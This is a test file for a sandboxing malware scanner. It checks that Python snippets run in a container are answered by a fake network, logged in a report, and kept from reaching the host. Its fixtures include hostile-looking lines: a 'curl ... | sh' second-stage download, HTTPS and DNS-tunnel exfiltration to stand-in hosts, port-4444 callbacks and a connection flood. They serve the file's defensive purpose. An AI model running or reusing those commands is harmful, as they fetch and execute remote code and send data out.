import { createServer } from 'node:net';
import { createSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import type { Container } from 'dockerode';
import { describe, expect, it } from 'vitest';
import { DEFAULT_SETTINGS } from '../../src/config/settings.js';
import { connectEngine } from '../../src/docker/engine.js';
import type { Conversation, ScanReport } from '../../src/core/schema.js';
import { dynamicFindings, running } from './support.js';

function talk(report: ScanReport, wanted: Partial<Conversation>): Conversation | undefined {
  return report.conversations.find((conversation) =>
    Object.entries(wanted).every(([key, value]) => conversation[key as keyof Conversation] === value),
  );
}

/** The container of this process's network. */
async function networkContainer(): Promise<Container> {
  const { docker } = await connectEngine(DEFAULT_SETTINGS);
  const list = await docker.listContainers({ filters: { label: ['dynscan.run=network'] } });
  const mine = list.find(({ Labels }) => Labels['dynscan.owner']?.endsWith(`/${process.pid}`));
  return docker.getContainer(mine?.Id ?? 'there is none');
}

/** What the kernel says of a container's first process. */
async function statusOfFirst(container: Container): Promise<string> {
  const exec = await container.exec({ Cmd: ['cat', '/proc/1/status'], AttachStdout: true, Tty: true });
  const stream = await exec.start({ Tty: true });
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString().replaceAll('\r', '');
}

function ran(report: ScanReport): string[] {
  return report.processes.map(({ argv }) => argv.join(' '));
}

describe('a model that talks is answered, and what is said is in the report', () => {
  it('a name is resolved, and the address it got is called by it', async () => {
    const report = await running(
      'resolves',
      "import socket\nprint(socket.gethostbyname('update.example.com'))\nsocket.create_connection(('update.example.com', 8443), 5).sendall(b'here I am')",
    );
    expect(report.output.stdout).toMatch(/^(198\.51\.100|192\.0\.2|203\.0\.113)\.\d+$/m);
    expect(talk(report, { protocol: 'DNS', name: 'update.example.com' })).toMatchObject({
      address: '127.0.0.1',
      port: 53,
      request: { line: 'A update.example.com', headers: [] },
    });
    expect(report.conversations.find(({ port }) => port === 8443)).toMatchObject({
      protocol: 'TCP',
      name: 'update.example.com',
      sent: 'here I am',
      bytesSent: 9,
      result: 'The sandbox answered in place of the network.',
    });
    expect(report.load.outcome).toBe('loaded');
  });

  it('a second stage arrives and what it does is followed', async () => {
    const report = await running(
      'second-stage',
      "import os\nos.system('curl -s http://stage.example.com/install.sh?id=7 | sh')",
    );
    expect(talk(report, { protocol: 'HTTP', name: 'stage.example.com' })).toMatchObject({
      port: 80,
      request: { line: 'GET /install.sh?id=7 HTTP/1.1' },
      received: expect.stringContaining('#!/bin/sh') as string,
    });
    expect(talk(report, { protocol: 'HTTP' })?.request?.headers).toContain('Host: stage.example.com');
    expect(ran(report)).toContain('/usr/bin/true second stage');
    expect(dynamicFindings(report).some(({ rule }) => rule === 'DYN-EXEC-FETCH')).toBe(true);
  });

  it.each([
    ['/x.py', 'import subprocess'],
    ['/x.zip', 'PK\\x03\\x04'],
    ['/x.elf', '\\x7fELF'],
    ['/api/x.json', '{"status": "ok"}'],
    ['/index.html', '<!doctype html>'],
  ])('HTTP gives %s what its name promises', async (path, content) => {
    const report = await running(
      `fetches${path.replace(/\W/g, '-')}`,
      `import urllib.request\nurllib.request.urlopen('http://203.0.113.20:8080${path}', timeout=5).read()`,
    );
    expect(talk(report, { protocol: 'HTTP', address: '203.0.113.20', port: 8080 })?.received).toContain(content);
    expect(report.load.outcome).toBe('loaded');
  });

  it('TLS is trusted inside, for names and addresses, and shows what was said', async () => {
    const report = await running(
      'https',
      "import urllib.request\nfor host in 'drop.example.com', '203.0.113.21':\n print(urllib.request.urlopen(f'https://{host}/up', data=b'loot', timeout=5).status)",
    );
    expect(report.output.stdout).toBe('200\n200\n');
    for (const wanted of [{ name: 'drop.example.com' }, { address: '203.0.113.21' }]) {
      const { sent, request } = talk(report, { protocol: 'HTTPS', ...wanted }) ?? {};
      expect(request?.line).toBe('POST /up HTTP/1.1');
      expect(sent).toMatch(/loot$/);
    }
  });

  it('a hard-coded address takes the connection on any port, and a client that waits for orders is let go', async () => {
    const report = await running(
      'hard-coded',
      "import socket\nfor port in 4444, 54321:\n s = socket.create_connection(('203.0.113.7', port), 5)\n s.sendall(b'hello from %d' % port)\n print(s.recv(10))",
    );
    expect(talk(report, { address: '203.0.113.7', port: 4444 })).toMatchObject({
      sent: 'hello from 4444',
      bytesSent: 15,
    });
    expect(talk(report, { address: '203.0.113.7', port: 54321 })?.sent).toBe('hello from 54321');
    expect(report.output.stdout).toBe("b''\nb''\n");
    expect(report.limits).toEqual([]);
  });

  it.skipIf(!existsSync('/proc/net/if_inet6'))('IPv6 is answered like IPv4', async () => {
    const report = await running(
      'six',
      "import urllib.request, socket\nurllib.request.urlopen('http://[2001:db8::1]:8080/x', timeout=5)\nsocket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'six', ('2001:db8::2', 9999))",
    );
    expect(talk(report, { protocol: 'HTTP', address: '2001:db8::1', port: 8080 })?.request?.line).toBe(
      'GET /x HTTP/1.1',
    );
    expect(talk(report, { protocol: 'UDP', address: '2001:db8::2', port: 9999 })?.sent).toBe('six');
  });

  it('datagrams and questions to a resolver of its own are read', async () => {
    const question =
      "bytes.fromhex('abcd01000001000000000000') + b'\\x04data\\x04leak\\x07example\\x03com\\0' + bytes([0, 16, 0, 1])";
    const report = await running(
      'datagrams',
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'beacon', ('203.0.113.8', 9999))\ns.settimeout(5)\ns.sendto(${question}, ('203.0.113.53', 53))\nprint(s.recvfrom(500)[1])`,
    );
    expect(talk(report, { protocol: 'UDP', address: '203.0.113.8', port: 9999 })).toMatchObject({
      sent: 'beacon',
      bytesSent: 6,
    });
    expect(talk(report, { protocol: 'DNS', address: '203.0.113.53' })).toMatchObject({
      name: 'data.leak.example.com',
      request: { line: 'TXT data.leak.example.com' },
    });
    expect(report.output.stdout).toBe("('203.0.113.53', 53)\n");
  });

  it('a mail is taken', async () => {
    const report = await running(
      'mails',
      "import smtplib\nwith smtplib.SMTP('mail.example.com', 25, timeout=5) as s: s.sendmail('a@example.com', 'b@example.com', 'the secret plan')",
    );
    expect(talk(report, { protocol: 'SMTP', name: 'mail.example.com' })?.sent).toContain('the secret plan');
    expect(report.load.outcome).toBe('loaded');
  });

  it("its own machine is still its own: a listener of the model's is reached, a closed port refuses", async () => {
    const report = await running(
      'own-machine',
      "import socket\ns = socket.create_server(('0.0.0.0', 8081))\nsocket.create_connection(('127.0.0.1', 8081), 5)\nprint(s.accept()[1][0])\ntry: socket.create_connection(('127.0.0.1', 4444), 5)\nexcept ConnectionRefusedError: print('refused')",
    );
    expect(report.output.stdout).toBe('127.0.0.1\nrefused\n');
  });
});

describe('nothing gets out', () => {
  it('a listener on the host hears nothing, whichever address of the host is tried', async () => {
    const heard: string[] = [];
    const server = createServer((socket) => {
      heard.push(`TCP from ${String(socket.remoteAddress)}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const address = server.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    const datagrams = createSocket('udp4', (message) => heard.push(`UDP ${String(message)}`));
    await new Promise<void>((resolve) => datagrams.bind(port, '0.0.0.0', resolve));
    try {
      const hosts = Object.values(networkInterfaces())
        .flatMap((list) => list ?? [])
        .filter(({ family }) => family === 'IPv4')
        .map(({ address }) => address);
      const strangers = hosts.filter((host) => !host.startsWith('127.'));
      expect(strangers.length).toBeGreaterThan(0);
      const report = await running(
        'reaches-for-the-host',
        `import socket\nfor host in ${JSON.stringify(hosts)}:\n socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'out', (host, ${port}))\n try: socket.create_connection((host, ${port}), 5).sendall(b'out')\n except OSError as error: print(host, error)`,
      );
      expect(heard).toEqual([]);
      for (const host of strangers) expect(talk(report, { protocol: 'TCP', address: host, port })?.sent).toBe('out');
    } finally {
      server.close();
      datagrams.close();
    }
  });
});

describe('who answers', () => {
  it('has no right left when the model runs', async () => {
    let status: Promise<string> | undefined;
    await running('looked-at', 'import time\nfor i in range(10_000_000): pass', {
      onEvent: (event) => {
        if (event.type === 'progress' && event.stage === 'load') status ??= networkContainer().then(statusOfFirst);
      },
    });
    const text = (await status) ?? '';
    for (const set of ['CapInh', 'CapPrm', 'CapEff', 'CapAmb'])
      expect(text).toMatch(new RegExp(`^${set}:\\s*0+$`, 'm'));
    expect(text).toMatch(/^Uid:\s+65534\s+65534\s+65534\s+65534$/m);
    expect(text).toMatch(/^NoNewPrivs:\s+1$/m);
    expect(text).toMatch(/^Seccomp:\s+2$/m);
  });

  it('is not worn out by a flood: what is over the bound is counted', async () => {
    const report = await running(
      'floods',
      "import socket\nfor i in range(700):\n with socket.create_connection(('203.0.113.7', 1000 + i), 5) as s: s.sendall(b'x' * 5000)",
    );
    expect(report.conversations.filter(({ sent }) => sent !== '')).toHaveLength(500);
    expect(report.limits.map(({ text }) => text)).toContainEqual(
      expect.stringMatching(/^The model began 200 conversations more/),
    );
  });
});

describe('a network that goes away', () => {
  it('leaves the run incomplete, with the reason, and no container', async () => {
    let killed: Promise<unknown> | undefined;
    const report = await running(
      'outlives-its-network',
      "import socket\ns = socket.create_connection(('203.0.113.7', 4444), 5)\ns.recv(1)",
      {
        onEvent: (event) => {
          if (event.type !== 'progress' || event.stage !== 'load') return;
          killed ??= networkContainer().then((container) => container.kill());
        },
      },
    );
    await killed;
    const dynamic = report.engines.find(({ engine }) => engine === 'dynamic');
    expect(dynamic?.status).toBe('incomplete');
    expect(dynamic?.reasons.join('\n')).toContain('The network of the sandbox went away in the middle of the run');
  });
});
